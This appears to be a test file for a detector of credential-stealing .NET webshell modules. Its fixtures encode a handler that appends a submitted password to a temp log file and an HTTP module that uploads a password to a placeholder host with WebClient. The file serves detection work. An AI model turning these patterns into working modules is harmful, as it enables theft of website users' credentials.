import detector from '../../../src/detectors/webshell/compiled-credential-theft.js';
import { testDetector } from '../../helpers/detector-tester.js';
import { assembly, call, handler, requestValue } from './web-assembly.js';

const APPEND = call('System.IO.File', 'AppendAllText', ['string', 'string']);
const SEND = ['newobj', { type: 'System.Net.WebClient', name: '.ctor' }] as const;
const UPLOAD = [
  'call',
  { type: 'System.Net.WebClient', name: 'UploadString', takes: ['string', 'string'], gives: 'string' },
] as const;

testDetector(detector, {
  hits: [
    {
      name: 'a password kept in a file',
      input: assembly(handler([['ldstr', 'C:\\Windows\\Temp\\a.log'], ...requestValue('Form', 'password'), APPEND])),
      detections: [{ message: 'kept', at: { label: 'sink' }, severity: 'high' }],
    },
    {
      name: 'a module that sends it off',
      input: assembly({
        ...handler([SEND, ['ldstr', 'http://inert.invalid/'], ...requestValue('Form', 'passwd'), UPLOAD, 'pop']),
        interfaces: ['System.Web.IHttpModule'],
      }),
      detections: [{ message: 'sent', at: { label: 'sink' }, severity: 'high' }],
    },
  ],
  misses: [
    {
      name: 'a name that is logged',
      input: assembly(handler([['ldstr', 'C:\\Windows\\Temp\\a.log'], ...requestValue('Form', 'username'), APPEND])),
      looksAlike: true,
    },
    { name: 'a password that is read', input: assembly(handler([...requestValue('Form', 'password'), 'pop'])) },
  ],
});
